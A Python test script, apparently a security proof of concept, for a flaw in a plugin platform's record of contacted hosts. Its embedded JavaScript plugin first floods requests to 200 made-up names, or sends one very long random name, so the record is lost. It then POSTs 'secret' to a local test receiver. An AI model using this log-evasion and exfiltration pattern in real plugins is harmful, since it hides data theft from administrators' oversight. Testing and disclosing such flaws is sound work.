"""The record of contacted hosts: an app that asks for 200 made-up names first was recorded with none of the hosts that it asked for later, as long as its process
lived, allowed or not (both databases). With PostgreSQL a single name of more than some 2,700 characters in a batch made the transaction fail that
would record all hosts of that batch. Prints whether the host that was contacted is in the list."""

import time

from common import Honest, Org, arguments, bench, stage

CODE = """
let calls = 0
async function onEvent(event) {
    calls += 1
    if (calls === 1) {
        const names = LONG ? ['x'.concat(...Array.from({ length: 400 }, () => Math.random().toString(36).slice(2)))] : Array.from({ length: 200 }, (_, i) => 'n' + i + '.invalid')
        for (let i = 0; i < names.length; i += 20) {
            await Promise.all(names.slice(i, i + 20).map((name) => fetch('https://' + name + '/').catch(() => 0)))
        }
        if (!LONG) return
    }
    await fetch('RECEIVER', { method: 'POST', body: 'secret' }).catch(() => 0)
}
module.exports = { onEvent }
"""


def main():
    given = arguments(__doc__)
    with stage(given, 1) as (server, keys, victim), Honest(victim):
        for long in ("false", "true"):
            receiver = bench.Receiver()
            org = Org(server, keys[0], f"Hidden {long}")
            # It declares the one host that it may reach, so the made-up names are refused and never looked up.
            manifest = '{"name": "Hidden", "hosts": ["127.0.0.1"]}'
            app = org.app({"plugin.json": manifest, "index.js": CODE.replace("LONG", long).replace("RECEIVER", receiver.url)})
            config = org.enable(app)
            for _ in range(2):
                org.send(2)
                time.sleep(4)
            hosts = org.ask("GET", f"{app}configs/{config}/hosts/?limit=300").body
            names = [one["host"] for one in hosts["results"]]
            print(f"a long name: {long}; requests that arrived at 127.0.0.1: {len(receiver.seen)}; recorded hosts {hosts['count']}, of which 127.0.0.1: {'127.0.0.1' in names}")
            org.ask("DELETE", app)


main()
